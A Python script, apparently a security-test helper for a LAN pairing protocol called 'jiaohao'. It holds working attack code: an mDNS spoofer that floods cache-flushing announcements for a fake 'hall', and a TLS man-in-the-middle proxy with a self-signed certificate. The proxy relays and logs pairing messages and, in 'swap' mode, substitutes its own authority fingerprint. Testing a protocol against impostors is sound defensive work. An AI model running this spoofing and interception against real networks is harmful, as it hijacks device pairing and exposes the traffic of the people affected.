"""Somebody on the LAN who pretends to be a hall: announces it louder than itself, or stands between a box and its hall.

python impostor.py shout ID ADDRESS                         mDNS answers twenty times a second: the hall is here
python impostor.py between OWN_PORT HALL_URL swap|relay     a TLS server with a certificate of its own that passes pairings
                                                            on; `swap` puts its own authority into what the hall offers.
                                                            Says each message that passes as a JSON line.
"""

import json
import socket
import ssl
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from zeroconf import DNSAddress, DNSOutgoing, DNSPointer, DNSService, DNSText

SERVICE = "_jiaohao._tcp.local."


def shout(hall: str, address: str) -> None:
    """All records of an announcement, flushing what others said of the same name (RFC 6762 section 10.2)."""
    mouth = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    mouth.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    mouth.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    mouth.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
    mouth.bind((address, 5353))
    texts = "".join(chr(len(each)) + each for each in (f"hall={hall}", "name=x", "schema=1", "path=/api/v1"))
    print("READY", flush=True)
    while True:
        said, now, unique = DNSOutgoing(0x8400), time.time() * 1000, 0x8001
        for label in (hall, f"{hall}-2"):
            name = f"{label}.{SERVICE}"
            for record in (
                DNSPointer(SERVICE, 12, 1, 120, name),
                DNSService(name, 33, unique, 120, 0, 0, 8600, "impostor.local."),
                DNSText(name, 16, unique, 120, texts.encode()),
                DNSAddress("impostor.local.", 1, unique, 120, socket.inet_aton(address)),
            ):
                said.add_answer_at_time(record, now)
        for packet in said.packets():
            mouth.sendto(packet, ("224.0.0.251", 5353))
        time.sleep(0.05)


def server_context() -> ssl.SSLContext:
    """TLS with a certificate that nobody has any reason to believe."""
    return _own()[0]


def _own() -> tuple[ssl.SSLContext, str]:
    """A context, and the SHA-256 of its certificate."""
    key, now = ec.generate_private_key(ec.SECP256R1()), datetime.now(UTC)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "yunxi.jiaohao.internal")])
    built = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
    built = (
        built.serial_number(7)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=9))
    )
    certificate = built.sign(key, hashes.SHA256())
    plain = serialization.NoEncryption()
    secret = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, plain)
    with tempfile.NamedTemporaryFile(delete=False, suffix=".pem") as file:
        file.write(secret + certificate.public_bytes(serialization.Encoding.PEM))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(file.name)
    Path(file.name).unlink()
    return context, sha256(certificate.public_bytes(serialization.Encoding.DER)).hexdigest()


def between(port: int, hall: str, way: str) -> None:
    """Passes each POST on and says what went through."""
    context, fingerprint = _own()

    class Between(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            headers = {"content-type": "application/json"}
            answer = httpx.post(
                hall + self.path, content=body, headers=headers, verify=False, trust_env=False
            )
            said = answer.json()
            if way == "swap" and "authority" in said:
                said["authority"] = fingerprint
            print(
                json.dumps({"path": self.path, "sent": json.loads(body), "status": answer.status_code}),
                flush=True,
            )
            text = json.dumps(said).encode()
            self.send_response(answer.status_code)
            self.send_header("content-type", answer.headers["content-type"])
            self.send_header("content-length", str(len(text)))
            self.end_headers()
            self.wfile.write(text)

        def log_message(self, *_: object) -> None:
            """What goes through is said on standard output."""

    server = ThreadingHTTPServer(("0.0.0.0", port), Between)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    print("READY", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    if sys.argv[1] == "shout":
        shout(*sys.argv[2:])
    else:
        between(int(sys.argv[2]), sys.argv[3], sys.argv[4])
